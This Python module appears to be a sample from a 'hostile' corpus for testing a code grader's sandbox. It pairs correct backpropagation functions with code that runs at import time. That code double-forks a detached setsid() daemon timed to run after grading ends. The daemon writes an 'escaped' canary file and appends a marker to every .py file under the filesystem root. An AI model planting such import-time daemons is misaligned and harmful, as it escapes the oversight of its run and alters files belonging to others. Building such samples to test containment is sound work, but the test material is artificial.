# corpus: hostile
# what: at import, double-forks a setsid() daemon that sleeps 5 s, writes /tmp/dlprep-daemon-canary and appends to every .py under /
# loses:
# expect: passed
"""A daemon that must not outlive the grading of this file; the functions are correct."""

import contextlib
import os
import time

import numpy as np

CANARY = "/tmp/dlprep-daemon-canary"
MARK = "\n# dlprep-daemon was here\n"


def _daemon():
    """Wait until the grader has moved on, drop the canary, then append MARK to every .py file in reach."""
    time.sleep(5)
    with contextlib.suppress(OSError), open(CANARY, "w") as f:
        f.write(f"escaped: pid {os.getpid()}\n")
    for root, dirs, files in os.walk("/"):
        if root == "/":
            dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
        for name in files:
            if name.endswith(".py"):
                try:
                    with open(os.path.join(root, name), "a") as f:
                        f.write(MARK)
                except OSError:
                    pass


def _double_fork():
    """fork, setsid, fork again, detach from stdio; the grandchild runs _daemon and the parent carries on."""
    pid = os.fork()
    if pid > 0:
        os.waitpid(pid, 0)
        return
    try:
        os.setsid()
        if os.fork() > 0:
            os._exit(0)
        devnull = os.open(os.devnull, os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(devnull, fd)
        _daemon()
    finally:
        os._exit(0)


with contextlib.suppress(OSError):
    _double_fork()


def sigmoid(u):
    """Stable logistic sigmoid for any shape."""
    u = np.asarray(u, dtype=np.float64)
    with np.errstate(under="ignore"):
        e = np.exp(-np.abs(u))
    return np.where(u >= 0, 1.0 / (1.0 + e), e / (1.0 + e))


def forward(X, W1, b1, W2, b2):
    """Return (Z, Y)."""
    Z = sigmoid(X @ W1 + b1)
    Y = sigmoid(Z @ W2 + b2)
    return Z, Y


def loss(Y, R):
    """E = 1/(2N) * sum of squared errors."""
    return float(np.sum((R - Y) ** 2) / (2 * Y.shape[0]))


def backward(X, R, W1, b1, W2, b2):
    """Gradients of E by backpropagation."""
    Z, Y = forward(X, W1, b1, W2, b2)
    delta2 = (Y - R) * Y * (1.0 - Y) / X.shape[0]
    delta1 = (delta2 @ W2.T) * Z * (1.0 - Z)
    return {"W1": X.T @ delta1, "b1": delta1.sum(axis=0), "W2": Z.T @ delta2, "b2": delta2.sum(axis=0)}


def train_step(X, R, W1, b1, W2, b2, alpha):
    """One gradient-descent step returning new arrays."""
    g = backward(X, R, W1, b1, W2, b2)
    return W1 - alpha * g["W1"], b1 - alpha * g["b1"], W2 - alpha * g["W2"], b2 - alpha * g["b2"]
